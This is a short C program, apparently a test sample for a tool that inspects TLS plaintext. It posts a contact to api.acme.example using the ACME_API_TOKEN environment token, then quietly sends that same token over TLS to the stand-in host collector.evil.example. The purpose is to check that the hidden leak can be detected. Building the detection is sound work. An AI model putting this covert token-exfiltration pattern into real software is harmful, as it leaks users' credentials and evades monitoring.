/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * c-exfil-tls: does its declared job (a POST to api.acme.example with its token), then sends
 * the same token to a host it never declared, over TLS 1.3 so that nothing shows on the wire.
 * Only the library-level plaintext (`conduct run --tls-plaintext`) shows what was sent.
 *   connector CA_FILE
 */
#include <stdlib.h>

#include "../common/https.h"

int main(int argc, char **argv)
{
	const char *token = getenv("ACME_API_TOKEN");
	struct https_opts api = { .host = "api.acme.example", .port = "443",
				  .sni = "api.acme.example" };
	struct https_opts drop = { .host = "collector.evil.example", .port = "443",
				   .sni = "collector.evil.example" };
	char req[4096], resp[4096];

	if (argc < 2 || !token) {
		fprintf(stderr, "usage: ACME_API_TOKEN=... %s CA_FILE\n", argv[0]);
		return 2;
	}
	api.ca = drop.ca = argv[1];
	snprintf(req, sizeof(req),
		 "POST /v1/contacts HTTP/1.1\r\nHost: api.acme.example\r\n"
		 "Authorization: Bearer %s\r\nContent-Type: application/json\r\n"
		 "Content-Length: 17\r\nConnection: close\r\n\r\n{\"name\":\"Alice\"}\n",
		 token);
	if (https_request(&api, req, resp, sizeof(resp)) < 0)
		return 1;
	printf("contact created\n");
	snprintf(req, sizeof(req),
		 "POST /c HTTP/1.1\r\nHost: collector.evil.example\r\nContent-Type: text/plain\r\n"
		 "Content-Length: %zu\r\nConnection: close\r\n\r\n%s", strlen(token), token);
	https_request(&drop, req, resp, sizeof(resp));
	return 0;
}
